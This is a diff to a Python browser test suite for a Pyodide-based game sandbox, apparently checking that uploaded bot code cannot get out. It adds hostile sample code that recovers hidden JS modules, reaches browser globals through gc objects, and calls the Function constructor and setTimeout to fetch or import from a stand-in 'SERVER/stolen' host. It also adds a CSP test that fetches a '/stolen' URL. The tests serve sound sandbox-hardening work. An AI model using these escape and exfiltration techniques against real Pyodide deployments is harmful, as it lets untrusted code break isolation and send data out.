@@ -36,18 +36,48 @@ try:
     got.append("urllib")
 except Exception:
     pass
-# The objects of the browser that the table itself holds.
+# What was only hidden, and not taken away.
+import sys
+for module in ("js", "pyodide_js"):
+    sys.modules.pop(module, None)
+    try:
+        __import__(module)
+        got.append("hidden " + module)
+    except Exception:
+        pass
+# The objects of the browser that the table itself holds, and what they lead to.
 import gc
-for thing in gc.get_objects():
-    if type(thing).__name__ != "JsProxy":
-        continue
-    for way in ("constructor",):
-        try:
-            made = getattr(getattr(thing, way), way)("return fetch('SERVER/stolen')")
-            made()
-            got.append("constructor")
-        except Exception:
-            pass
+def attempt(act):
+    try:
+        act()
+        return True
+    except Exception:
+        return False
+def found():
+    for thing in gc.get_objects():
+        if type(thing).__name__.startswith("Js"):
+            yield thing
+            for path in (("_api", "config", "jsglobals"), ("config", "jsglobals"), ("jsglobals",)):
+                try:
+                    for name in path:
+                        thing = getattr(thing, name)
+                    yield thing
+                except Exception:
+                    pass
+def misuse(thing):
+    thing.base = "SERVER/stolen/"
+    thing.stop()
+    thing.prepare()
+for thing in list(found()):
+    if attempt(lambda: getattr(thing.constructor, "constructor")("return fetch('SERVER/stolen')")()):
+        got.append("constructor")
+    for timer in ("setTimeout", "setInterval"):
+        if attempt(lambda: getattr(thing, timer)("import('SERVER/stolen/" + timer + ".js')", 1000)):
+            got.append(timer)
+    if attempt(lambda: thing.channel.constructor.new("stolen")):
+        got.append("channel")
+    if attempt(lambda: misuse(thing)):
+        got.append("thinkers")
 """
 
 
@@ -136,11 +166,42 @@ def test_the_laboratory_measures_in_the_browser(loner: Loner) -> None:
     open_page(loner)
     drop(loner, "nim.py", single_file())
     await_state(loner, "game")
+    # Whoever stops and begins anew within one bout gets one measuring, and not two in one.
+    loner.page.locator("[data-measure]").click()
+    loner.page.locator("[data-stop]").click()
     loner.page.locator("[data-measure]").click()
     expect(loner.page.locator("[data-lab=done]")).to_be_visible()
     expect(loner.page.locator("[data-lab]")).to_contain_text("among 40 matches")
     expect(loner.page.locator("[data-lab]")).to_contain_text("Thinking pays")
     access.check(loner)
+
+
+def test_a_match_is_studied_where_it_was_played(loner: Loner) -> None:
+    open_page(loner)
+    drop(loner, "nim.py", single_file())
+    await_state(loner, "game")
+    loner.page.locator("[data-play-bots]").click()
+    assert loner.play(random.Random(3)) > 0
+    # Nobody's record counts it.
+    assert loner.page.evaluate("localStorage.getItem('tafelrunde.record')") is None
+    last = "JSON.parse(localStorage.getItem('tafelrunde.tables'))[0]"
+    loner.open(f"/study/{loner.page.evaluate(last)['table']}/1")
+    expect(loner.page.locator("[data-study]")).to_be_visible()
+    loner.page.reload()
+    expect(loner.page.locator("[data-study]")).to_be_visible()
+    loner.page.get_by_role("button", name="Judge").click()
+    expect(loner.page.locator("[data-thought] li").first).to_be_visible()
+    loner.page.get_by_role("button", name="Play on from here").click()
+    loner.table.wait_for()
+    assert loner.page.evaluate(last)["trial"]
+
+
+def test_the_page_brings_its_own_policy(loner: Loner) -> None:
+    loner.open("/try")
+    loner.page.evaluate("void fetch('http://127.0.0.2:9/stolen').catch(() => {})")
+    refused = "Refused to connect because it violates the document's Content Security Policy"
+    loner.until(lambda: any(refused in each for each in loner.wrong), lambda: f"it was let through: {loner.wrong}")
+    loner.wrong.clear()
 
 
 def test_nothing_of_a_file_gets_out(loner: Loner, files: Files) -> None:
@@ -158,7 +219,7 @@ def test_nothing_of_a_file_gets_out(loner: Loner, files: Files) -> None:
     expect(loner.page.locator("[data-tried] h2")).to_have_text("Pebbles ")
     loner.page.locator("[data-play-bots]").click()
     assert loner.play(random.Random(2)) > 0
-    assert not any("stolen" in each for each in files.sent)
+    assert not any("stolen" in each for each in files.asked)
     # Files of the app came, and nothing went.
     assert all(each == "GET " for each in sent), sent
     assert sum(each.endswith(".bin") for each in files.sent.elements()) == sum(each.endswith(".bin") for each in asked)
